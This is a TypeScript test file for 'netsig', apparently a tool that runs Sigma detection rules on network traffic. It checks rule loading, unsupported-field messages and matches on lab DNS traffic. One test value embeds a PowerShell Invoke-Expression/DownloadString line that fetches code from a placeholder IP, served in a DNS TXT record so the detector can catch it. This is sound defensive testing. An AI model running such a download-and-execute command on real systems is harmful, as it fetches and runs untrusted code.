    assert.deepEqual(line("{category: network, service: dns}", "  s: {network.community_id: x}\n  condition: s"), [
      `a.yml:5:7: not supported: field "network.community_id" of the network category's dns service: netsig cannot derive it (netsig's DNS events carry no community ID)`,
    ]);
  });

  test("a field of no log gets the nearest name and the fields there are", () => {
    const [l] = line(ZEEK, "  s: {qtype_nam: A}\n  condition: s");
    assert.match(
      l,
      /^a\.yml:5:7: not supported: field "qtype_nam" is not in Zeek's dns log \(did you mean "qtype_name"\?\) \(the fields netsig derives: id\.orig_h, id\.orig_p, /,
    );
  });

  test("the logs netsig does not derive, and other log sources, are not supported, saying which are", () => {
    const [rdp] = line("{product: zeek, service: rdp}", "  s: {id.orig_h: 10.0.0.1}\n  condition: s");
    assert.equal(
      rdp,
      "a.yml:3:1: not supported: logsource {product: zeek, service: rdp}: netsig serves Sigma rules of logsource category dns (its DNS events), category network with service dns or connection, and product zeek with service dns, http, ssl (or tls) or conn; Zeek's rdp log is not one netsig derives from its events",
    );
    const [win] = line("{product: windows, category: process_creation}", "  s: {Image: x}\n  condition: s");
    assert.match(win, /other log sources are not network packets$/);
  });
});

// ---- SigmaHQ's rules

const manifest = JSON.parse(readFileSync(join(SIGMAHQ, "manifest.json"), "utf8")) as {
  files: { path: string; commit: string; sha256: string; size: number; license: string }[];
  license_file: { path: string; sha256: string };
};
const vendored = (p: string) => join(SIGMAHQ, p);
const sha = (f: string) => createHash("sha256").update(readFileSync(f)).digest("hex");

const HTTP_FIELDS =
  "id.orig_h, id.orig_p, id.resp_h, id.resp_p, host, uri, method, user_agent, referrer, origin, request_body_len, client_header_names, version, status_code, status_msg, response_body_len, server_header_names";

describe("SigmaHQ's rules, as they are (test/sigmahq, Detection Rule License 1.1)", () => {
  test("the vendored files are the manifest's (sha256 and size), with the licence's text, and nothing else", () => {
    const files = (d: string): string[] =>
      readdirSync(d).flatMap((n) => (statSync(join(d, n)).isDirectory() ? files(join(d, n)) : [relative(SIGMAHQ, join(d, n))]));
    const listed = [...manifest.files.map((f) => f.path), manifest.license_file.path, "manifest.json", "README.md"].sort();
    assert.deepEqual(files(SIGMAHQ).sort(), listed);
    for (const f of manifest.files) {
      assert.equal(sha(vendored(f.path)), f.sha256, f.path);
      assert.equal(statSync(vendored(f.path)).size, f.size, f.path);
      assert.equal(f.license, "DRL-1.1");
    }
    assert.equal(sha(vendored(manifest.license_file.path)), manifest.license_file.sha256);
    assert.match(readFileSync(join(ROOT, "NOTICE"), "utf8"), /test\/sigmahq\/[\s\S]*Detection Rule License/);
  });

  test("every zeek_dns rule and every DNS rule loads unchanged; of zeek_http, those naming fields of one side load, the others say why not", () => {
    const loaded = loadRules([SIGMAHQ]);
    const ok = loaded.result.units.map((u) => relative(SIGMAHQ, u.file)).sort();
    for (const f of manifest.files.filter((x) => /zeek_dns_|network\/dns\//.test(x.path)))
      assert.ok(ok.includes(f.path), `${f.path} did not load`);
    assert.deepEqual(
      ok.filter((f) => f.includes("zeek_http")),
      [
        "rules-emerging-threats/2025/Malware/Katz-Stealer/zeek_http_katz_stealer_susp_useragent.yml",
        "rules/network/zeek/zeek_http_webdav_put_request.yml",
      ],
    );
    const why = loaded.problems.map((p) => `${relative(SIGMAHQ, p.file)}: ${p.message}`).sort();
    assert.deepEqual(why, [
      // (OMIGOD: a request's method and URI with its response's status)
      "rules-emerging-threats/2021/Exploits/CVE-2021-38647/zeek_http_exploit_cve_2021_38647_omigod_no_auth_rce.yml: not supported: the detection names uri, method, client_header_names, request_body_len (of the net_packet_http_request events) and status_code (of the net_packet_http_response events): Zeek's http log joins them in one record, and netsig matches one event at a time",
      // (the proxy log's names, not Zeek's)
      `rules/network/zeek/zeek_http_executable_download_from_webdav.yml: not supported: field "c-uri" is not in Zeek's http log (did you mean "uri"?) (the fields netsig derives: ${HTTP_FIELDS})`,
      `rules/network/zeek/zeek_http_executable_download_from_webdav.yml: not supported: field "c-uri" is not in Zeek's http log (did you mean "uri"?) (the fields netsig derives: ${HTTP_FIELDS})`,
      `rules/network/zeek/zeek_http_executable_download_from_webdav.yml: not supported: field "c-useragent" is not in Zeek's http log (did you mean "user_agent"?) (the fields netsig derives: ${HTTP_FIELDS})`,
      `rules/network/zeek/zeek_http_executable_download_from_webdav.yml: not supported: field "resp_mime_types" of Zeek's http log: netsig cannot derive it (from Zeek's file analysis of the bodies: netsig does not reassemble HTTP bodies)`,
      `rules/network/zeek/zeek_http_susp_file_ext_from_susp_tld.yml: not supported: field "resp_mime_types" of Zeek's http log: netsig cannot derive it (from Zeek's file analysis of the bodies: netsig does not reassemble HTTP bodies)`,
      "rules/network/zeek/zeek_rdp_public_listener.yml: not supported: logsource {product: zeek, service: rdp}: netsig serves Sigma rules of logsource category dns (its DNS events), category network with service dns or connection, and product zeek with service dns, http, ssl (or tls) or conn; Zeek's rdp log is not one netsig derives from its events",
    ]);
  });

  test("the webdav PUT rule, unchanged, fires on a PUT by a WebDAV client to a public server only", () => {
    const units = loadRules([], [vendored("rules/network/zeek/zeek_http_webdav_put_request.yml")]).result.units.map((u) => u.ir);
    assert.equal(units.length, 1);
    const to = (dst: string) =>
      event("net_packet_http_request", {
        metadata: meta("10.0.0.5", 50123, dst, 80),
        http_request: {
          method: "PUT",
          protocol: "HTTP/1.1",
          host: dst,
          uri_path: "/x",
          headers: { "User-Agent": ["Microsoft-WebDAV-MiniRedir/10.0"] },
          content_length: 1,
        },
      });
    const { hits } = onEvents(units, [to("203.0.113.7"), to("192.168.1.20"), request({ method: "GET" })]);
    assert.deepEqual(
      hits.map((h) => h.data["id.resp_h"]),
      ["203.0.113.7"],
    );
  });
});

// ---- on real traffic

const missing = missingTools();
const labSkip = missing.length && !process.env.CI ? `needs ${missing.join(", ")}` : false;
let lab = "";
const LONG_TXT = `${"a".repeat(248)}Invoke-Expression (New-Object Net.WebClient).DownloadString('http://192.0.2.66/p')`;
const KERBEROS = "srv1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA.netsig.test";
const ONION = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion";

before(
  async () => {
    if (labSkip) return;
    // three A records for one name, the one in 192.168.0.0/16 last (readable by dnsmasq, which drops root)
    const hostsDir = mkdtempSync(join(work, "hosts-"));
    chmodSync(work, 0o755);
    chmodSync(hostsDir, 0o755);
    const hosts = join(hostsDir, "hosts");
    writeFileSync(hosts, "10.9.0.1 multi.example\n10.9.0.2 multi.example\n192.168.7.3 multi.example\n", { mode: 0o644 });
    // dnsmasq on 127.0.0.2 answers like a resolver; 127.0.0.1 is the lab's authoritative address
    lab = (
      await recordDnsSession({
        queries: [
          { args: ["pool.minexmr.com", "A"], server: "127.0.0.2" },
          { args: ["sink.supportxmr.com", "A"], server: "127.0.0.2" },
          { args: ["+noedns", "gone.xmrpool.net", "A"], server: "127.0.0.2" },
          { args: ["gone.xmrpool.net", "A"], server: "127.0.0.2" },
          { args: ["www.uol.com.br", "A"] },
          { args: ["mainnet-seed-0001.nkn.org", "A"], server: "127.0.0.2" },
          { args: ["nkn.org", "A"], server: "127.0.0.2" },
          { args: [KERBEROS, "A"] },
          { args: ["UWhRCAzz.netsig.test", "A"] },
          { args: [ONION, "A"], server: "127.0.0.2" },
          { args: ["www.onion.example", "A"], server: "127.0.0.2" },
          { args: ["+zflag", "+noadflag", "www.uol.com.br", "A"] },
          { args: ["+noadflag", "www.uol.com.br", "A"] },
          { args: ["+zflag", "+noadflag", "uol.com.br", "MX"] },
          { args: ["+zflag", "+noadflag", "99.0.0.127.in-addr.arpa", "PTR"] },
          { args: ["netsig.test", "A"] },
          { args: ["long.example", "TXT"], server: "127.0.0.2" },
          { args: ["multi.example", "A"], server: "127.0.0.2" },
        ],
        dnsmasq: {
          extraArgs: [
            "--listen-address=127.0.0.2",
            "--address=/minexmr.com/192.0.2.10",
            "--address=/supportxmr.com/127.0.0.1",
            `--txt-record=long.example,${LONG_TXT}`,
            `--addn-hosts=${hosts}`,
          ],
        },
      })
    ).path;
  },
  { timeout: 120_000 },
);

describe("on real dig/dnsmasq traffic", () => {
  const zeekRules = () => {
    const dir = join(work, "sigmahq-dns");
    mkdirSync(dir, { recursive: true });
    for (const f of manifest.files.filter((x) => /zeek_dns_|network\/dns\//.test(x.path)))
      writeFileSync(join(dir, f.path.split("/").pop()!), readFileSync(vendored(f.path)));
    return dir;
  };

  test("SigmaHQ's zeek_dns and DNS rules fire exactly where they must, in netsig's process and on built events alike", {
    skip: labSkip,
  }, async () => {
    const hits = await runBoth(zeekRules(), lab);
    const by = (id: string) => hits.filter((h) => h.id === id);
    // mining pools (responses: its exclusions are on answers and rejected): the resolved name, and a REFUSED answer
    // carrying an OPT record (Zeek's rejected needs a response without any record); not the sinkholed one, not the
    // REFUSED answer without any record
    assert.deepEqual(
      by("bf74135c-18e8-4a72-a926-0e4f47888c19").map((h) => [
        h.data.query,
        h.data.answers ?? null,
        h.data.rcode_name,
        h.data["id.orig_h"],
        h.data["id.resp_h"],
      ]),
      [
        ["pool.minexmr.com", "192.0.2.10", "NOERROR", "127.0.0.1", "127.0.0.2"],
        ["gone.xmrpool.net", null, "REFUSED", "127.0.0.1", "127.0.0.2"],
      ],
    );
    // query-side rules: once per query
    assert.deepEqual(
      by("fa7703d6-0ee8-4949-889c-48c84bc15b6f").map((h) => [h.data.query, h.data.qtype_name]),
      [["mainnet-seed-0001.nkn.org", "A"]],
    );
    assert.deepEqual(
      by("5588576c-5898-4fac-bcdd-7475a60e8f43").map((h) => h.data.query),
      [KERBEROS.toLowerCase()],
    );
    assert.deepEqual(
      by("a8322756-015c-42e7-afb1-436e85ed3ff5").map((h) => h.data.query),
      [ONION],
    );
    // Z bit: on responses (the rule's exclusions name answers); dnsmasq echoes the Z bit of dig +zflag; not for an MX or a
    // .arpa name; not for dig's default AD bit, which dnsmasq's response clears (Zeek takes Z from the query)
    assert.deepEqual(
      by("ede05abc-2c9e-4624-9944-9ff17fdc0bf5").map((h) => [h.data.query, h.data.qtype_name, h.data.answers]),
      [["www.uol.com.br", "A", "127.0.0.11"]],
    );
    // SigmaHQ's category dns rules on the same traffic: the XMR pool query, and the TXT answer (below)
    assert.deepEqual(
      by("b593fd50-7335-4682-a36c-4edcb68e4641").map((h) => h.data.query),
      ["pool.minexmr.com"],
    );
    assert.deepEqual([...new Set(hits.map((h) => h.id))].sort(), [
      "5588576c-5898-4fac-bcdd-7475a60e8f43",
      "8ae51330-899c-4641-8125-e39f2e07da72",
      "a8322756-015c-42e7-afb1-436e85ed3ff5",
      "b593fd50-7335-4682-a36c-4edcb68e4641",
      "bf74135c-18e8-4a72-a926-0e4f47888c19",
      "ede05abc-2c9e-4624-9944-9ff17fdc0bf5",
      "fa7703d6-0ee8-4949-889c-48c84bc15b6f",
    ]);
  });

  test("TXT joined: a command split across the 255-byte strings dnsmasq makes of a long --txt-record is matched", {
    skip: labSkip,
  }, async () => {
    // what is on the wire: two strings, the keyword across them
    const rows = await tsharkFields(lab, ["dns.txt"], {
      displayFilter: "dns.flags.response == 1 && dns.qry.name == long.example",
      aggregator: "\u0001",
    });
    assert.equal(rows.length, 1);
    const strings = rows[0][0].split("\u0001");
    assert.equal(strings.length, 2);
    assert.equal(strings[0].length, 255);
    assert.ok(strings.every((s) => !s.includes("Invoke-Expression")));
    assert.equal(strings.join(""), LONG_TXT);
    const hits = await bothWaysOn(lab, {
      // SigmaHQ's rule, unchanged
      "txt.yml": readFileSync(vendored("rules/network/dns/net_dns_susp_txt_exec_strings.yml"), "utf8"),
      "native.yml": [
        ["strings", "net_packet_dns", "args.proto_dns.answers[].TXTs[]|contains: Invoke-Expression"],
        ["rdata", "net_packet_dns", "args.proto_dns.answers[].TXT|contains: Invoke-Expression"],
        ["answer", "net_packet_dns_response", "args.dns_response[].dns_answer[].answer|contains: Invoke-Expression"],
        ["derived", "net_packet_dns_response", "dns.answer|contains: Invoke-Expression"],
      ]
        .map(([id, ev, sel]) => `id: ${id}\nevents: [${ev}]\ndetection:\n  s:\n    ${sel}\n  condition: s\n`)
        .join("---\n"),
      "zeek.yml": sigmaRule("zeek-txt", ZEEK, "  s: {answers|contains: Invoke-Expression}\n  condition: s"),
    });
    assert.deepEqual(hits.map((h) => h.id).sort(), [
      "8ae51330-899c-4641-8125-e39f2e07da72",
      "answer",
      "derived",
      "rdata",
      "strings",
      "zeek-txt",
    ]);
    const sigma = hits.find((h) => h.id === "8ae51330-899c-4641-8125-e39f2e07da72")!;
    // (the finding shows the value that matched: the strings joined)
    assert.equal(sigma.data.answer, LONG_TXT);
    assert.equal(hits.find((h) => h.id === "zeek-txt")!.data.answers, LONG_TXT);
  });

  test("a finding shows the answer that matched: the third of three A records", { skip: labSkip }, async () => {
    const rows = await tsharkFields(lab, ["dns.a"], { displayFilter: "dns.flags.response == 1 && dns.qry.name == multi.example" });
    const order = rows[0][0].split("|");
    assert.equal(order.length, 3);
    assert.notEqual(order[0], "192.168.7.3", "dnsmasq put the matching answer first: the test shows nothing");
    const hits = await bothWaysOn(lab, {
      "sigma.yml": sigmaRule("cat", "{category: dns}", "  s: {answer|cidr: 192.168.0.0/16}\n  condition: s"),
      "zeek.yml": sigmaRule(
        "zeek",
        ZEEK,
        "  s: {answers|cidr: 192.168.0.0/16, TTLs|gte: 0}\n  condition: s",
        "fields: [answers, TTLs, query]\n",
      ),
      "native.yml":
        "id: native\nevents: [net_packet_dns_response]\ndetection:\n  s:\n    args.dns_response[].dns_answer[].answer|cidr: 192.168.0.0/16\n  condition: s\n" +
        "output: '{dns.query} -> {args.dns_response[0].dns_answer[].answer}'\nfields: {ip: dns.answer}\n" +
        "---\nid: native-full\nevents: [net_packet_dns]\ndetection:\n  s:\n    args.proto_dns.answers[].IP|cidr: 192.168.0.0/16\n  condition: s\nfields: ['args.proto_dns.answers[].IP']\n",
    });
    assert.deepEqual(hits.map((h) => [h.id, h.data]).sort(), [
      [
        "cat",
        { query: "multi.example", record_type: "A", answer: "192.168.7.3", rcode: "NOERROR", src_ip: "127.0.0.1", dst_ip: "127.0.0.2" },
      ],
      ["native", { ip: "192.168.7.3", output: "multi.example -> 192.168.7.3" }],
      ["native-full", { "args.proto_dns.answers[].IP": "192.168.7.3" }],
      ["zeek", { answers: "192.168.7.3", TTLs: 0, query: "multi.example" }],
    ]);
  });
});

async function bothWaysOn(capture: string, files: Record<string, string>): Promise<Hit[]> {
  const dir = mkdtempSync(join(work, "rules-"));
  for (const [n, t] of Object.entries(files)) writeFileSync(join(dir, n), t);
  return runBoth(dir, capture);
}

// ---- tables

describe("tables", () => {
  test("IANA's cipher suite names are OpenSSL's (the installed openssl names each suite it knows the same)", () => {
    const out = execFileSync("openssl", ["ciphers", "-V", "-stdname", "ALL:COMPLEMENTOFALL:@SECLEVEL=0"], { encoding: "utf8" });
    let n = 0;
    for (const l of out.split("\n").filter(Boolean)) {
      const [code, , std] = l.trim().split(/\s+/);
      const [hi, lo] = code.split(",").map((x) => Number.parseInt(x, 16));
      assert.equal(TLS_CIPHER_NAMES[hi * 256 + lo], std, code);
      n++;
    }
    assert.ok(n > 100, `${n} suites`);
    const tls13 = execFileSync(
      "openssl",
      ["ciphers", "-V", "-stdname", "-ciphersuites", "TLS_AES_128_CCM_SHA256:TLS_AES_128_CCM_8_SHA256", "NULL"],
      { encoding: "utf8" },
    );
    assert.match(tls13, /0x13,0x04 - TLS_AES_128_CCM_SHA256/);
    assert.equal(TLS_CIPHER_NAMES[0x1304], "TLS_AES_128_CCM_SHA256");
    assert.equal(TLS_CIPHER_NAMES[0x1305], "TLS_AES_128_CCM_8_SHA256");
  });

  test("every derived field has a code, a shape and the events it has values in", () => {
    assert.deepEqual(Object.keys(DERIVED_FIELDS).sort(), [...DERIVED_NAMES].sort());
    for (const [i, n] of DERIVED_NAMES.entries()) assert.equal(derivedCode(n), DERIVED_BASE + i);
    assert.equal(derivedCode("zeek.dns.nope"), -1);
  });
});
